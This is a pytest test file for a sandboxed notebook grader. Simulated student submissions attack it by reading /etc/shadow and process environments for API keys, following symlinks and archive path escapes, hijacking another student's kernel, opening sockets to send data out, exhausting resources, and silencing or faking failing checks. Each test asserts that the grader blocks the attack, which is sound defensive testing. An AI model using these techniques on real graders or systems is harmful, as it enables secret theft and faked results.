"""Submissions that attack the grader (issue 16), graded in one batch with ``--jobs 2``.

Each attacker defines the toy exercise's ``add`` so that it raises ``ValueError("REPORT {...}")``
with what the attack achieved: the check's message carries the report into ``grades.csv``, the
channel a real attacker would use to exfiltrate what it read. Every test then asserts that the
attack scored nothing it should not (``add`` is worth 2 points only when the attack succeeded),
that no secret reached the grades or the feedback pages, and that the batch and the machine are
intact: the honest solution still scores full marks in the same batch.

Needs bubblewrap (skips without it; CI installs it).
"""

from __future__ import annotations

import csv
import json
import os
import secrets
import shutil
import socket
import subprocess
import tarfile
import threading
import zipfile
from pathlib import Path

import pytest

from argnb import csvsafe
from argnb.exercises import grade as g
from argnb.exercises.cli import progress_line
from argnb.exercises.sandbox import Limits
from argnb.exercises.submissions import shown_name
from tests.exercises.conftest import write_nb

pytestmark = pytest.mark.notebook

SECRET = "sk-canary-4f1c9e"  # an instructor's API key
FILE_SECRET = "instructor-notes-7d2b"  # the content of a file of the instructor's
VICTIM_SLEEP = 8  # seconds the victim's kernel stays up while the thief looks for it


def attacker(code: str, *, honest_add: bool = False) -> list[str]:
    """A toy submission: ``code`` fills ``report`` (a dict) and may set ``solved``; ``add`` then
    is the real one if ``solved`` (the attack worked) or ``honest_add``, else raises the report."""
    body = (
        "import json, os, sys\nreport = {}\nsolved = False\n"
        f"{code}\n"
        "def add(a, b):\n"
        f"    if solved or {honest_add!r}:\n"
        "        return a + b\n"
        "    raise ValueError('REPORT ' + json.dumps(report, default=str)[:400])\n"
    )
    return [
        "%load_ext argnb.exercises",
        body,
        "### CHECK add: 2 points\nassert add(1, 2) == 3",
        "### CHECK data: 1 point\nassert open('../data/x.txt').read() == 'ok'",
    ]


def own(code: str) -> list[str]:
    """A toy submission whose first cell is ``code`` (it defines ``add`` itself)."""
    return [
        "%load_ext argnb.exercises",
        code,
        "### CHECK add: 2 points\nassert add(1, 2) == 3",
        "### CHECK data: 1 point\nassert open('../data/x.txt').read() == 'ok'",
    ]


#: attack 6: student names that cost the whole class its grades (bytes, as a folder name)
NAMES = {
    "not_utf8": b"caf\xe9-\xff\xfe",
    "long": b"n" * 251,
    "newline": b"evil\n  correct          add.ipynb                        3 in 0.1 s",
}
ROOT_SECRET = "root-only-2c91e"  # a 0600 file of root's


def plant_links(subs: Path, tmp: Path, solution: Path) -> dict[str, Path]:
    """Attack 1: submissions that are links (absolute, relative, to a folder, in archives)."""
    root_file = tmp / "root_only.txt"
    root_file.write_text(ROOT_SECRET)
    root_file.chmod(0o600)
    made = {
        "link_solution": solution,
        "link_shadow": Path("/etc/shadow"),
        "link_root_file": root_file,
    }
    for who, target in made.items():
        (subs / who).mkdir()
        (subs / who / "add.ipynb").symlink_to(target)
    (subs / "link_relative").mkdir()
    rel = os.path.relpath(solution, subs / "link_relative")
    (subs / "link_relative" / "add.ipynb").symlink_to(rel)
    made["link_relative"] = subs / "link_relative" / "add.ipynb"
    (subs / "link_folder").symlink_to(subs / "correct", target_is_directory=True)
    made["link_folder"] = subs / "link_folder" / "add.ipynb"
    # a zip whose add.ipynb is a link to the solution, with a member climbing out and one absolute
    with zipfile.ZipFile(subs / "zip_link.zip", "w") as z:
        info = zipfile.ZipInfo("add.ipynb")
        info.external_attr = (0o120777 << 16) | 0x20
        z.writestr(info, str(solution))
        z.writestr("../escaped_zip.txt", "out")
        z.writestr("/tmp/absolute_zip.txt", "out")
    made["zip_link"] = solution
    with tarfile.open(subs / "tar_link.tar", "w") as t:
        member = tarfile.TarInfo("add.ipynb")
        member.type, member.linkname = tarfile.SYMTYPE, str(solution)
        t.addfile(member)
        member = tarfile.TarInfo("hard.ipynb")
        member.type, member.linkname = tarfile.LNKTYPE, "/etc/shadow"
        t.addfile(member)
    made["tar_link"] = solution
    return made


STEAL_SOLUTION = """
import glob, argnb
from pathlib import Path
found = []
starts = [Path(argnb.__file__).resolve(), Path.cwd(), Path('{solution}')]
for start in starts:
    for parent in [start, *start.parents][:-1]:  # every folder up to (not) the root
        found += glob.glob(str(parent / '**' / 'solutions' / '*.ipynb'), recursive=True)
        if len(found) > 0:
            break
for known in ['{solution}', '{real_solution}']:
    if os.path.exists(known):
        found.append(known)
report['found'] = sorted(set(found))
for path in found:
    try:
        cells = json.load(open(path))['cells']
        for cell in cells:
            if cell['cell_type'] == 'code' and 'CHECK' not in ''.join(cell['source']):
                exec(''.join(l for l in cell['source'] if not l.startswith('%')))
        solved = add(-1, 1) == 0
    except Exception as exc:
        report.setdefault('errors', []).append(repr(exc))
"""

READ_FILES = """
for name, path in [('shadow', '/etc/shadow'), ('instructor', '{canary}'),
                   ('bashrc', os.path.expanduser('~root/.bashrc')), ('passwd', '/etc/passwd')]:
    try:
        report[name] = open(path).read()[:200]
    except Exception as exc:
        report[name] = type(exc).__name__
"""

STEAL_KERNEL = """
import glob, time
from pathlib import Path
from ipykernel import get_connection_file
mine = Path(get_connection_file()).resolve()
others, changed = set(), False
deadline = time.time() + {wait}
while time.time() < deadline and not changed:
    for pattern in ['/tmp/argnb-grade-*/**/kernel*.json', '/tmp/**/kernel*.json',
                    '/proc/*/cwd/**/kernel*.json']:
        for f in glob.glob(pattern, recursive=True):
            if Path(f).resolve() != mine:
                others.add(f)
    for f in sorted(others):
        try:
            from jupyter_client import BlockingKernelClient
            kc = BlockingKernelClient(connection_file=f)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute_interactive('def add(a, b):\\n    return 0', timeout=5)
            changed = True
        except Exception as exc:
            report.setdefault('errors', []).append(repr(exc)[:80])
    time.sleep(0.5)
report['others'] = sorted(others)
report['changed'] = changed
"""

VICTIM = "import time\ntime.sleep({wait})"

WRITE_FILES = """
for name, path in [('submission', '{victim_nb}'), ('grades', '{old_grades}')]:
    try:
        with open(path, 'w') as f:
            f.write('owned')
        report[name] = 'written'
    except Exception as exc:
        report[name] = type(exc).__name__
try:
    open('/tmp/planted', 'w').write('x')
    report['tmp'] = 'written'
except Exception as exc:
    report['tmp'] = type(exc).__name__
"""

NETWORK = """
import _socket, subprocess
def tcp():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(('127.0.0.1', {port}))
    s.sendall(b'stolen')
    return 'connected'
def unix():
    s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect('{unix_path}')
    s.sendall(b'stolen')
    return 'connected'
def outside():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(('1.1.1.1', 53))
    return 'connected'
for name, fn in [('tcp', tcp), ('unix', unix), ('outside', outside)]:
    try:
        report[name] = fn()
    except Exception as exc:
        report[name] = type(exc).__name__
code = "import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=3); s.sendall(b'sub')"
done = subprocess.run([sys.executable, '-c', code], capture_output=True, text=True)
report['subprocess'] = 'connected' if done.returncode == 0 else done.stderr.strip().splitlines()[-1][:60]
"""

ENVIRON = """
report['env'] = {{k: v for k, v in os.environ.items() if 'KEY' in k or 'sk-' in v}}
seen = []
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            seen.append(open(f'/proc/{{pid}}/environ', 'rb').read().decode(errors='replace'))
        except Exception as exc:
            pass
report['pids'] = len(seen)
report['proc'] = [e for e in seen if 'sk-' in e or 'KEY' in e]
"""

MEMORY = """
import time
t0 = time.time()
try:
    block = bytearray(4 * 2**30)
    block[::4096] = b'x' * len(block[::4096])
    report['allocated'] = True
except MemoryError:
    report['allocated'] = False
report['seconds'] = round(time.time() - t0, 1)
"""

PROCESSES = """
import subprocess
started = []
try:
    for _ in range(300):
        started.append(subprocess.Popen(['sleep', '{marker}']))
except Exception as exc:
    report['stopped'] = type(exc).__name__
report['started'] = len(started)
"""

BIG_FILE = """
try:
    with open('big.bin', 'wb') as f:
        for _ in range(300):
            f.write(bytes(2**20))
except OSError as exc:
    report['stopped'] = type(exc).__name__
report['size_mb'] = os.path.getsize('big.bin') // 2**20
os.remove('big.bin')
"""

SILENCE = {
    # each leaves `add` wrong (hidden test: negative numbers) and tries to make the failure vanish
    "showtraceback": "%unload_ext argnb.exercises\n"
    "get_ipython().showtraceback = lambda *a, **k: None\n"
    "get_ipython()._showtraceback = lambda *a, **k: None",
    "custom_exc": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    "class_patch": "type(get_ipython()).showtraceback = lambda *a, **k: None\n"
    "type(get_ipython())._showtraceback = lambda *a, **k: None",
    "transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    "excepthook": "import sys\nsys.excepthook = lambda *a: None\n"
    "get_ipython().events.register('post_run_cell', lambda r: setattr(r, 'error_in_exec', None))",
    "builtins": "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})",
    "print_pass": "print('passed')\nget_ipython().showtraceback = lambda *a, **k: print('ok')",
}

#: where an attack leaves the evidence that it ran: in the sandbox's HOME, which the batch
#: copies out before the scratch folder is removed (only the tests read it)
MARK = """
def mark(name, **found):
    import json, os
    path = os.path.join(os.path.expanduser('~'), f'mark-{name}.json')
    with open(path, 'w') as f:
        json.dump(found, f, default=str)
"""

#: issue 30, attack 2: walk up the caller's frames and raise whatever check code is found
FRAME_PEEK = (
    MARK
    + """
import sys
def add(a, b):
    frames, texts = [], []
    f = sys._getframe(1)
    while f is not None:
        frames.append(f.f_code.co_name)
        for value in list(f.f_locals.values()):
            text = value if isinstance(value, str) else getattr(value, 'source', None)
            if isinstance(text, str) and any(w in text for w in ('assert ' + 'add(', 'BEGIN ' + 'HIDDEN')):
                texts.append(text[:300])
        f = f.f_back
    mark('frame_peek', frames=frames, texts=texts, args=[a, b])
    raise ValueError('FOUND ' + ' | '.join(texts)[:500])
"""
)

#: attack 3: rewrite every statement still to run, then answer with an object equal to anything
REWRITE = (
    MARK
    + """
import sys
class Liar:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
class LiarInt(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def add(a, b):
    rewritten, frames = 0, []
    f = sys._getframe(1)
    while f is not None:
        frames.append(f.f_code.co_name)
        for key, value in list(f.f_locals.items()):
            if isinstance(value, list) and value and all(hasattr(v, 'lineno') for v in value):
                import ast
                value[:] = [ast.Pass(lineno=v.lineno, col_offset=0) for v in value]
                rewritten += 1
        f = f.f_back
    get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])
    mark('{who}', frames=frames, rewritten=rewritten, args=[a, b])
    return {answer}
"""
)

#: attack 4: four processes of 400 MB each in one sandbox limited to 1 GB
MANY_PROCESSES = (
    MARK
    + """
import subprocess, sys, time
child = (
    "import sys, time\\n"
    "b = bytearray(400 * 2**20)\\n"
    "b[::4096] = b'x' * len(b[::4096])\\n"
    "print('held', flush=True)\\n"
    "time.sleep(60)\\n"
)
kids = [subprocess.Popen([sys.executable, '-c', child], stdout=subprocess.PIPE, text=True)
        for _ in range(4)]
held = 0
t0 = time.time()
for k in kids:
    line = k.stdout.readline()
    held += line.startswith('held')
    mark('many_processes', started=len(kids), held=held)
time.sleep(1)
alive = sum(k.poll() is None for k in kids)
mark('many_processes', started=len(kids), held=held, alive=alive, seconds=time.time() - t0)
for k in kids:
    k.kill()
def add(a, b):
    return a + b
"""
)

#: attack 5: print far more than the runner keeps (240 MB; 1 GB in the issue, scaled for CI):
#: 40 MB one flushed megabyte at a time (the runner reads each, keeps the first), then 200 MB in
#: one burst (a single message that large is never read at all)
BIG_PRINT = (
    MARK
    + """
import sys
chunk = 'x' * 2**20
for i in range(40):
    print(chunk)
    sys.stdout.flush()
for i in range(200):
    print(chunk)
mark('big_print', printed_mb=240)
def add(a, b):
    return a + b
"""
)


class Listener:
    """A TCP listener on the host's loopback and a Unix socket under the host's /tmp: what a
    sandboxed kernel must not reach. ``hits`` counts connections."""

    def __init__(self, unix_path: Path) -> None:
        self.hits: list[str] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.port = self.tcp.getsockname()[1]
        self.unix_path = unix_path
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(unix_path))
        self.unix.listen()
        for s, name in ((self.tcp, "tcp"), (self.unix, "unix")):
            threading.Thread(target=self._accept, args=(s, name), daemon=True).start()

    def _accept(self, s: socket.socket, name: str) -> None:
        while True:
            try:
                conn, _ = s.accept()
            except OSError:
                return
            self.hits.append(name)
            conn.close()

    def close(self) -> None:
        self.tcp.close()
        self.unix.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Grade every attack (and the honest solution) once, with two jobs; the evidence."""
    from argnb.exercises.release import release
    from argnb.exercises.sandbox import unavailable
    from tests.exercises.conftest import TOY_SOLUTION

    why = unavailable()
    if why:
        pytest.skip(why)
    # the scratch folders this batch makes (other processes on the machine may grade too)
    from argnb.exercises import sandbox as sb

    made: list[Path] = []
    create = sb.Scratch.create

    def recorded() -> sb.Scratch:
        scratch = create()
        made.append(scratch.root)
        return scratch

    tmp = tmp_path_factory.mktemp("attacks")
    root = tmp / "exercises"
    solution = write_nb(root / "99_toy" / "solutions" / "add.ipynb", TOY_SOLUTION)
    (root / "99_toy" / "data").mkdir()
    (root / "99_toy" / "data" / "x.txt").write_text("ok")
    release(root)
    real_solution = Path(__file__).resolve().parents[2] / "exercises/02_dialectic/solutions"
    canary = tmp / "instructor" / "notes.txt"
    canary.parent.mkdir()
    canary.write_text(FILE_SECRET)
    old_grades = tmp / "old" / "grades.csv"
    old_grades.parent.mkdir()
    old_grades.write_text("student,points\nana,3\n")
    listener = Listener(Path(str(tmp / "host.sock")))
    subs = tmp / "subs"
    victim_nb = subs / "kernel_victim" / "add.ipynb"
    marker = str(900000 + secrets.randbelow(99999))  # this run's own sleeps
    fill = {
        "solution": str(solution),
        "real_solution": str(real_solution / "ex2_grounded.ipynb"),
        "canary": str(canary),
        "wait": VICTIM_SLEEP,
        "victim_nb": str(subs / "zz_last" / "add.ipynb"),
        "old_grades": str(old_grades),
        "port": listener.port,
        "unix_path": str(listener.unix_path),
        "marker": marker,
    }
    cases = {
        "correct": attacker("", honest_add=True),
        "steal_solution": attacker(STEAL_SOLUTION.format(**fill)),
        "read_files": attacker(READ_FILES.format(**fill)),
        "kernel_thief": attacker(STEAL_KERNEL.format(**fill)),
        "write_files": attacker(WRITE_FILES.format(**fill)),
        "network": attacker(NETWORK.format(**fill)),
        "environ": attacker(ENVIRON.format(**fill)),
        "memory": attacker(MEMORY.format(**fill)),
        "processes": attacker(PROCESSES.format(**fill)),
        "big_file": attacker(BIG_FILE),
        "zz_last": attacker("", honest_add=True),
    }
    for who, cells in cases.items():
        write_nb(subs / who / "add.ipynb", cells)
    victim = attacker(VICTIM.format(**fill), honest_add=True)
    write_nb(victim_nb, victim)
    for name, code in SILENCE.items():
        cells = attacker("", honest_add=False)
        # a wrong add (fails the hidden test) and the one-liner, in a cell of its own
        cells[1] = "def add(a, b):\n    return abs(a) + abs(b)"
        cells.insert(2, code)
        write_nb(subs / f"silence_{name}" / "add.ipynb", cells)
    write_nb(subs / "=HYPERLINK(1)" / "add.ipynb", attacker("", honest_add=True))
    for who, code in {
        "frame_peek": FRAME_PEEK,
        "rewrite_liar": REWRITE.replace("{who}", "rewrite_liar").replace("{answer}", "Liar()"),
        "rewrite_int": REWRITE.replace("{who}", "rewrite_int").replace("{answer}", "LiarInt(0)"),
        "many_processes": MANY_PROCESSES,
        "big_print": BIG_PRINT,
    }.items():
        write_nb(subs / who / "add.ipynb", own(code))
    for raw in NAMES.values():  # honest notebooks under names that broke the whole run
        path = os.path.join(os.fsencode(subs), raw)
        os.mkdir(path)
        write_nb(Path(os.fsdecode(path)) / "add.ipynb", attacker("", honest_add=True))
    before = {p: p.read_bytes() for p in subs.rglob("*.ipynb")}
    links = plant_links(subs, tmp, solution)
    old = os.environ.get("OPENAI_API_KEY")
    os.environ["OPENAI_API_KEY"] = SECRET
    sb.Scratch.create = recorded  # type: ignore[method-assign]
    remove = sb.Scratch.remove
    marks = tmp / "marks"
    marks.mkdir()

    def keep_marks(scratch: sb.Scratch) -> None:  # the evidence, before the folder goes
        for found in (scratch.box / ".home").glob("mark-*.json"):
            shutil.copy(found, marks / found.name)
        remove(scratch)

    sb.Scratch.remove = keep_marks  # type: ignore[method-assign]
    lines: list[str] = []
    try:
        grades = g.grade(
            subs,
            root / "99_toy",
            timeout=40,
            jobs=2,
            limits=Limits(total_memory_mb=1024),
            progress=lambda o: lines.append(progress_line(o)),
        )
    finally:
        sb.Scratch.create = create  # type: ignore[method-assign]
        sb.Scratch.remove = remove  # type: ignore[method-assign]
        if old is None:
            del os.environ["OPENAI_API_KEY"]
        else:
            os.environ["OPENAI_API_KEY"] = old
        listener.close()
    out = tmp / "grades.csv"
    feedback = g.write(grades, out)
    texts = [out.read_text(encoding="utf-8")]
    texts += [p.read_text(encoding="utf-8") for p in feedback.glob("*.html")]
    leftovers = subprocess.run(
        ["pgrep", "-f", f"sleep {marker}"], capture_output=True, text=True, check=False
    ).stdout.split()
    return {
        "scratch_made": made,
        "ran": sum(o.status not in ("unreadable", "missing") for o in grades.outcomes),
        "marks": {p.name[5:-5]: json.loads(p.read_text()) for p in marks.glob("mark-*.json")},
        "links": links,
        "lines": lines,
        "tmp": tmp,
        "feedback": feedback,
        "scratch_left": {p for p in made if p.exists()},
        "grades": grades,
        "rows": {(r.student, r.check): r for r in grades.rows},
        "out": out,
        "published": "\n".join(texts),
        "listener": listener,
        "before": before,
        "canary": canary,
        "old_grades": old_grades,
        "leftovers": leftovers,
    }


def report(batch, student: str) -> dict:
    row = batch["rows"][student, "add"]
    assert row.points == 0 and "REPORT " in row.message, (student, row.message)
    return json.loads(row.message.split("REPORT ", 1)[1])


def points(batch, student: str) -> float:
    return sum(r.points for r in batch["grades"].rows if r.student == student)


def test_the_honest_solution_keeps_full_marks_in_the_same_batch(batch):
    assert points(batch, "correct") == 3 and points(batch, "zz_last") == 3
    assert points(batch, "kernel_victim") == 3
    refused = {*batch["links"], "memory"}  # links are refused; the 4 GB one dies at its limit
    assert all(o.status == "ok" for o in batch["grades"].outcomes if o.student not in refused)


def test_the_solution_cannot_be_read(batch):
    got = report(batch, "steal_solution")
    assert got["found"] == [] and points(batch, "steal_solution") == 1


def test_no_system_or_instructor_file_can_be_read(batch):
    got = report(batch, "read_files")
    assert got["shadow"] in ("FileNotFoundError", "PermissionError")
    assert got["instructor"] == "FileNotFoundError"
    assert got["bashrc"] in ("FileNotFoundError", "PermissionError")
    assert got["passwd"] == "FileNotFoundError"  # no /etc at all
    assert FILE_SECRET not in batch["published"] and "root:" not in batch["published"]


def test_no_student_reaches_another_students_kernel(batch):
    got = report(batch, "kernel_thief")
    assert got["others"] == [] and got["changed"] is False
    assert points(batch, "kernel_victim") == 3


def test_no_other_submission_or_earlier_grades_file_can_be_written(batch):
    got = report(batch, "write_files")
    assert got["submission"] != "written" and got["grades"] != "written"
    assert got["tmp"] == "written"  # its own private /tmp, gone with the sandbox
    for path, data in batch["before"].items():
        assert path.read_bytes() == data, path
    assert batch["old_grades"].read_text() == "student,points\nana,3\n"
    assert not Path("/tmp/planted").exists()


def test_no_host_socket_and_no_network(batch):
    got = report(batch, "network")
    assert got["tcp"] != "connected" and got["unix"] != "connected"
    assert got["outside"] != "connected" and got["subprocess"] != "connected"
    assert batch["listener"].hits == []


def test_no_instructor_variable_directly_or_through_proc(batch):
    got = report(batch, "environ")
    assert got["env"] == {} and got["proc"] == []
    assert got["pids"] < 10  # its own PID namespace: the grader's processes are not there
    assert SECRET not in batch["published"]


def test_memory_is_limited_and_costs_only_the_attacker(batch):
    got = report(batch, "memory")
    assert got["allocated"] is False and got["seconds"] < 10


def test_process_count_is_limited_and_nothing_is_left_running(batch):
    got = report(batch, "processes")
    assert got["started"] < 300 and got["stopped"] in ("BlockingIOError", "OSError")
    assert batch["leftovers"] == []


def test_file_size_is_limited(batch):
    got = report(batch, "big_file")
    assert got["size_mb"] <= 256 and got["stopped"] == "OSError"


@pytest.mark.parametrize("name", sorted(SILENCE))
def test_one_liners_do_not_silence_a_failing_check(batch, name):
    row = batch["rows"][f"silence_{name}", "add"]
    assert row.points == 0 and not row.passed, row
    # the data check still counts: it runs in the checker, whatever the kernel became (a
    # transformer that replaces each cell, the grader's own included, cannot reach it)
    assert points(batch, f"silence_{name}") == 1
    (outcome,) = [o for o in batch["grades"].outcomes if o.student == f"silence_{name}"]
    assert outcome.flags and "review by hand" in outcome.note  # and the instructor is told


def test_honest_notebooks_are_not_flagged(batch):
    assert [o.flags for o in batch["grades"].outcomes if o.student in ("correct", "zz_last")] == [
        [],
        [],
    ]


def test_the_machine_is_left_clean(batch):
    assert len(batch["scratch_made"]) >= batch["ran"]  # one per notebook run, at least
    assert batch["scratch_left"] == set()
    assert batch["canary"].read_text() == FILE_SECRET


def test_student_text_cannot_be_a_formula_in_grades_csv(batch):
    with batch["out"].open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    names = {r["student"] for r in rows}
    assert "'=HYPERLINK(1)" in names and "=HYPERLINK(1)" not in names
    assert {csvsafe.restore(n) for n in names} >= {"=HYPERLINK(1)", "correct"}
    for r in rows:
        for value in r.values():
            assert not value.startswith(csvsafe.TRIGGERS), value


# -- issue 30: verdicts outside the student's process, files, names, limits ----------------


def test_links_are_refused_not_followed(batch):
    subs = batch["tmp"] / "subs"
    for who in ("link_solution", "link_shadow", "link_root_file", "link_relative", "link_folder"):
        planted = subs / who if who == "link_folder" else subs / who / "add.ipynb"
        assert planted.is_symlink() and planted.exists(), who  # armed: following it would work
        row = batch["rows"][who, "add"]
        assert points(batch, who) == 0 and row.status == "unreadable", (who, row)
        assert "is a link, which the grader does not follow" in row.message, row.message
    assert (subs / "link_root_file" / "add.ipynb").read_text() == ROOT_SECRET  # would leak this
    assert ROOT_SECRET not in batch["published"] and "root:" not in batch["published"]
    if os.access("/etc/shadow", os.R_OK):
        assert (subs / "link_shadow" / "add.ipynb").read_text()
    # another student's folder, linked: not graded under the attacker's name
    assert points(batch, "correct") == 3 and points(batch, "link_folder") == 0


def test_archives_are_unpacked_without_links_or_escapes(batch):
    for who in ("zip_link", "tar_link"):
        row = batch["rows"][who, "add"]
        assert points(batch, who) == 0 and "is a link" in row.message, (who, row)
    warnings = "\n".join(batch["grades"].warnings)
    assert "absolute path or '..'" in warnings  # the zip's climbing members were seen ...
    assert not (batch["tmp"] / "escaped_zip.txt").exists()  # ... and left out
    assert not Path("/tmp/absolute_zip.txt").exists()


def test_frame_peeking_finds_no_check_to_raise(batch):
    found = batch["marks"]["frame_peek"]
    assert found["frames"] and found["args"] == [1, 2]  # it ran, inside a call from the checker
    assert found["texts"] == []  # no check, hidden test or expected value in the kernel
    row = batch["rows"]["frame_peek", "add"]
    assert row.points == 0 and row.message.startswith("ValueError: FOUND")
    assert "negative numbers" not in row.message and "assert" not in row.message


@pytest.mark.parametrize("who", ["rewrite_liar", "rewrite_int"])
def test_rewriting_statements_and_always_equal_answers_score_nothing(batch, who):
    found = batch["marks"][who]
    assert found["frames"] and found["args"] == [1, 2]  # it ran and returned its liar
    row = batch["rows"][who, "add"]
    assert row.points == 0 and not row.passed, row
    if who == "rewrite_liar":  # an object cannot cross; an int subclass crosses as its value
        assert "cannot be graded" in row.message
    else:
        assert row.message.startswith("AssertionError")
    assert points(batch, who) == 1  # the data check: nothing of the kernel's can skip it


def test_memory_is_limited_per_submission_not_per_process(batch):
    found = batch["marks"]["many_processes"]
    assert found["started"] == 4  # four processes of 400 MB each asked for memory ...
    # ... and at most two held it at once under the 1 GB limit (a control group kills one of
    # them; the watchdog, where there is none, ends the whole sandbox before it can report)
    assert found["alive"] <= 2 if "alive" in found else found["held"] <= 2, found
    assert points(batch, "correct") == 3


def test_a_huge_print_is_cut_and_costs_the_runner_little(batch):
    assert batch["marks"]["big_print"]["printed_mb"] == 240  # the kernel printed it all
    (outcome,) = [o for o in batch["grades"].outcomes if o.student == "big_print"]
    assert "cut the rest" in outcome.note and points(batch, "big_print") == 3
    # 240 MB kept would need far more (the text, and its decoded message, on top of the runner's
    # ~80 MB); under load the runner's peak grows with the output messages ZeroMQ holds for it
    # until it reads them (329 MB seen at a load of 4-7, under 300 MB on a quiet machine)
    assert 0 < outcome.runner_mb < 400, outcome.runner_mb


def test_names_cannot_break_the_run(batch):
    with batch["out"].open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    students = {o.student for o in batch["grades"].outcomes}
    assert len(rows) == 2 * len(students)  # every row written
    shown = {who: shown_name(os.fsdecode(raw)) for who, raw in NAMES.items()}
    assert set(shown.values()) <= students
    for who, name in shown.items():
        assert "\n" not in name and len(name) <= 64, name
        assert points(batch, name) == 3, (who, name)
    assert shown["not_utf8"].startswith("caf\\xe9")
    pages = list(batch["feedback"].glob("*.html"))
    assert len(pages) == len(students)  # one page per student, the 251-character name's too
    assert all(len(p.name) < 100 for p in pages)
    assert all("\n" not in line for line in batch["lines"])
    assert not any(line.startswith("  correct ") and "0.1 s" in line for line in batch["lines"])


def test_cpu_time_is_limited_and_the_rest_still_counts(tmp_path, bwrap):
    """A cell that burns CPU dies at the limit (SIGXCPU); the grader skips it and runs again."""
    from argnb.exercises.release import release
    from argnb.exercises.sandbox import Limits
    from tests.exercises.conftest import TOY_SOLUTION, toy_student

    root = tmp_path / "exercises"
    write_nb(root / "99_toy" / "solutions" / "add.ipynb", TOY_SOLUTION)
    (root / "99_toy" / "data").mkdir()
    (root / "99_toy" / "data" / "x.txt").write_text("ok")
    release(root)
    spin = "import time\nt0 = time.time()\nwhile time.time() - t0 < 60:\n    pass"
    write_nb(tmp_path / "subs" / "spinner" / "add.ipynb", toy_student("return a + b", before=spin))
    limits = Limits(cpu_seconds=4)
    grades = g.grade(tmp_path / "subs", root / "99_toy", timeout=50, limits=limits)
    (outcome,) = grades.outcomes
    assert outcome.status == "crashed" and "crashed Python" in outcome.note, outcome
    assert sum(r.points for r in outcome.rows) == 3
    assert outcome.seconds < 40  # the limit, not the 50 s time-out, stopped the cell


SLOW = "import subprocess, time\nsubprocess.Popen(['sleep', '{marker}'])\ntime.sleep(40)"


def _pids(marker: str) -> list[str]:
    done = subprocess.run(["pgrep", "-f", f"sleep {marker}"], capture_output=True, text=True)
    return done.stdout.split()


@pytest.mark.parametrize("mode", ["bwrap", pytest.param("none", marks=pytest.mark.full)])
def test_a_stopped_grader_leaves_no_process_or_folder(tmp_path, mode, request):
    """Issue 30, attack 7: SIGTERM midway through a ``--jobs 2`` batch ends every kernel and
    process of it and removes its scratch folders, in either sandbox mode."""
    import signal
    import sys
    import tempfile
    import time

    from argnb.exercises.release import release
    from argnb.exercises.sandbox import unavailable
    from tests.exercises.conftest import TOY_SOLUTION, toy_student

    if mode == "bwrap" and unavailable():
        pytest.skip(unavailable())
    root = tmp_path / "exercises"
    write_nb(root / "99_toy" / "solutions" / "add.ipynb", TOY_SOLUTION)
    (root / "99_toy" / "data").mkdir()
    (root / "99_toy" / "data" / "x.txt").write_text("ok")
    release(root)
    marker = str(800000 + secrets.randbelow(99999))
    for who in ("ana", "ben", "cem", "dan"):
        cells = toy_student("return a + b", before=SLOW.format(marker=marker))
        write_nb(tmp_path / "subs" / who / "add.ipynb", cells)
    # the grader's own temporary folder (TMPDIR), so the test sees every folder it makes; the
    # sandbox user must pass through it, as through /tmp
    scratch = Path(tempfile.mkdtemp(prefix="argnb-stop-test-"))
    scratch.chmod(0o711)
    request.addfinalizer(lambda: shutil.rmtree(scratch, ignore_errors=True))
    extra = ["--sandbox", "none", "--i-understand"] if mode == "none" else []
    cmd = [sys.executable, "-m", "argnb.exercises", "grade", str(tmp_path / "subs"),
           "--exercise", "99_toy", "--root", str(root), "--jobs", "2", "--timeout", "90",
           "--out", str(tmp_path / "grades.csv"), *extra]  # fmt: skip
    grader = subprocess.Popen(
        cmd,
        env={**os.environ, "TMPDIR": str(scratch)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 120
    while len(_pids(marker)) < 2 and time.monotonic() < deadline:
        time.sleep(0.3)
    running = _pids(marker)
    folders = list(scratch.glob("argnb-grade-*"))
    grader.send_signal(signal.SIGTERM)
    code = grader.wait(timeout=60)
    assert len(running) == 2 and len(folders) >= 2  # the attack ran: two notebooks midway
    assert code != 0
    time.sleep(0.5)
    assert _pids(marker) == []  # no kernel, no process of a student's left
    assert list(scratch.iterdir()) == []  # no scratch folder, no unpacked upload
    assert not (tmp_path / "grades.csv").exists()
